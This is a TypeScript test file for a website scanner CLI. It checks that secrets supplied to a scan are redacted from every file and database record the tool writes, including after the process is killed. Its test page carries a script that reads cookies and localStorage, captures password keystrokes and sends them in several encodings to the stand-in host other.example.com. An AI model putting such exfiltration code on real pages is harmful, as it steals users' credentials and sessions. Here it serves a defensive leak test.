import { type ChildProcess, spawn } from "node:child_process"
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { setTimeout as wait } from "node:timers/promises"
import { fileURLToPath } from "node:url"
import { gunzipSync } from "node:zlib"
import { afterAll, beforeAll, expect, test } from "vitest"
import { type ServedSites, serveSites } from "../../src/demo/serve-sites.ts"
import { openStore } from "../../src/store/open-store.ts"
import { testBrowser } from "../crawler/test-browser.ts"

const secrets = {
  header: "staging key/+1234?",
  password: "Geheim & wichtig 99%",
  session: "session-value-5678-abcdef",
  local: "local secret 9012 äß",
  basic: "basic-password-3456",
  smtp: "mail-password-2468",
  query: "database-password-7890",
  short: "Q7x",
}

/** Tells what it was given to somebody else, in every form it can think of; the server echoes the header. */
const page = (key: string) => `<!doctype html><meta charset="utf-8"><title>題</title><p>${key}
<form><input id="password" type="password"></form><script>
const tell = (value) => {
  const bytes = new TextEncoder().encode(value)
  const b64 = btoa(String.fromCharCode(...bytes))
  const hex = [...bytes].map((one) => one.toString(16).padStart(2, "0")).join("")
  const inside = btoa(String.fromCharCode(...new TextEncoder().encode("u=" + value + ";")))
  const url = "https://other.example.com/told?" + new URLSearchParams({ value, b64, twice: encodeURIComponent(value) })
  fetch(url, { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ value, hex, inside, b64 }) })
}
tell(localStorage.getItem("kept") ?? ""); tell(document.cookie); tell(${JSON.stringify(key)})
document.querySelector("#password").addEventListener("input", (event) => tell(event.target.value))
</script>`

const main = fileURLToPath(new URL("../../src/cli/main.ts", import.meta.url))
const html = { "content-type": "text/html; charset=utf-8" }

let root: string
let server: ServedSites
const at = (...path: string[]) => join(root, ...path)

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "gaibu-secrets-"))
  for (const name of ["tmp", "home", "given"]) await mkdir(at(name))
  server = await serveSites({
    sites: {
      "site.example.jp": {
        answers: {
          "/*": ({ headers }) => ({
            headers: { ...html, "set-cookie": `echo=${encodeURIComponent(String(headers["x-key"]))}` },
            body: page(String(headers["x-key"])),
          }),
        },
      },
      "other.example.com": { answers: { "/*": () => ({ headers: html, body: "" }) } },
    },
  })
  const state = {
    cookies: [
      { name: "session", value: secrets.session, domain: "site.example.jp", path: "/", expires: -1 },
      { name: "pin", value: secrets.short, domain: "site.example.jp", path: "/", expires: -1 },
    ],
    origins: [{ origin: "https://site.example.jp", localStorage: [{ name: "kept", value: secrets.local }] }],
  }
  await writeFile(at("given", "state.json"), JSON.stringify(state))
  const steps = [{ fill: "#password", value: secrets.password }]
  const mail = {
    smtp: `smtp://user:${secrets.smtp}@127.0.0.1:9/`,
    from: "a@example.jp",
    to: ["b@example.jp"],
  }
  const settings = { steps, pages: 0, linkChecks: false, notify: { mail } }
  await writeFile(at("given", "gaibu.yml"), JSON.stringify(settings))
})

afterAll(async () => {
  await server.close()
  await rm(root, { recursive: true, force: true })
})

function scan(out: string): ChildProcess {
  const basic = Buffer.from(`user:${secrets.basic}`).toString("base64")
  const args = [
    ...["scan", `https://site.example.jp/?password=${secrets.query}`, "--out", at(out)],
    ...["--config", at("given", "gaibu.yml"), "--storage-state", at("given", "state.json")],
    ...["--header", `X-Key: ${secrets.header}`, "--header", `Authorization: Basic ${basic}`],
    ...["--format", "html,json,csv,xlsx,markdown,sarif,junit,har", "--browser", testBrowser().path],
    ...["--host-resolver-rules", server.hostResolverRules, "--ignore-https-errors"],
  ]
  const env = { ...process.env, TMPDIR: at("tmp"), HOME: at("home"), XDG_DATA_HOME: at("home", "data") }
  return spawn(process.execPath, [main, ...args], { env, cwd: at("home"), stdio: "ignore" })
}

/** Everything on the disk but what the user wrote, packed records unpacked, as one long text of bytes. */
async function everythingKept(): Promise<string> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true })
  const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name))
  const texts = files.filter((file) => !file.startsWith(at("given"))).map(textOf)
  const store = await openStore(at("home", "data", "gaibu", "gaibu.db"))
  const kept = (await store.scans()).map(async ({ id }) =>
    JSON.stringify([await store.evidence(id).catch(String), await store.result(id).catch(String)]),
  )
  const all = [...(await Promise.all(kept)), ...(await Promise.all(texts))].join("\n")
  await store.close()
  return all
}

async function textOf(file: string): Promise<string> {
  const bytes = await readFile(file)
  const packed = bytes[0] === 0x1f && bytes[1] === 0x8b
  return `${file}\n${(packed ? gunzipSync(bytes) : bytes).toString("utf8")}\n${bytes.toString("latin1")}`
}

/** Forms of a text made without the code under test. */
function formsOf(value: string): readonly string[] {
  const bytes = Buffer.from(value)
  const middle = Buffer.from(`u=${value};`).toString("base64").slice(4, -4)
  return [
    ...[value, encodeURIComponent(value), encodeURIComponent(encodeURIComponent(value))],
    ...[new URLSearchParams({ value }).toString().slice(6), JSON.stringify(value).slice(1, -1)],
    ...[
      bytes.toString("base64").replace(/=+$/, ""),
      bytes.toString("base64url"),
      bytes.toString("hex"),
      middle,
    ],
  ]
}

const { query, short, ...everywhere } = secrets

function leaks(text: string): readonly string[] {
  const found = Object.entries(everywhere).flatMap(([name, value]) =>
    formsOf(value).flatMap((form) => (text.includes(form) ? [`${name}: ${form}`] : [])),
  )
  const pin = text.indexOf(`pin=${short}`)
  return [...found, ...(pin < 0 ? [] : [`short: ${text.slice(Math.max(0, pin - 300), pin + 20)}`])]
}

test("a whole scan: the site got every secret, and the disk has none in any form", async () => {
  const code = await new Promise((resolve) => scan("whole").once("exit", resolve))
  expect([0, 1, 4]).toContain(code)
  const told = server.log.filter(({ host }) => host === "other.example.com")
  const bodies = told.map(({ body }) => body.toString()).join("\n")
  for (const value of [secrets.password, secrets.local, secrets.header]) expect(bodies).toContain(value)
  expect(bodies).toContain(`session=${secrets.session}`)
  const text = await everythingKept()
  expect(text).toContain("[secret:header:x-key]")
  expect(text).toContain("[secret:fill]")
  expect(text).toContain("[secret:cookie:session]")
  expect(leaks(text)).toEqual([])
  expect(await readFile(at("whole", "manifest.json"), "utf8")).not.toContain(query)
  expect(await readdir(at("tmp"))).toEqual([])
})

test("killed in the middle: nothing is left in the temp folder, and no secret anywhere", async () => {
  const before = server.log.length
  const child = scan("killed")
  const ended = new Promise((resolve) => child.once("exit", resolve))
  const isTold = () => server.log.slice(before).some(({ host }) => host === "other.example.com")
  for (let i = 0; i < 600 && !isTold(); i++) await wait(50)
  expect(isTold()).toBe(true)
  expect((await readdir(at("tmp"))).length).toBeGreaterThan(0)
  child.kill("SIGKILL")
  await ended
  for (let i = 0; i < 100 && (await readdir(at("tmp"))).length > 0; i++) await wait(100)
  expect(await readdir(at("tmp"))).toEqual([])
  expect(leaks(await everythingKept())).toEqual([])
})
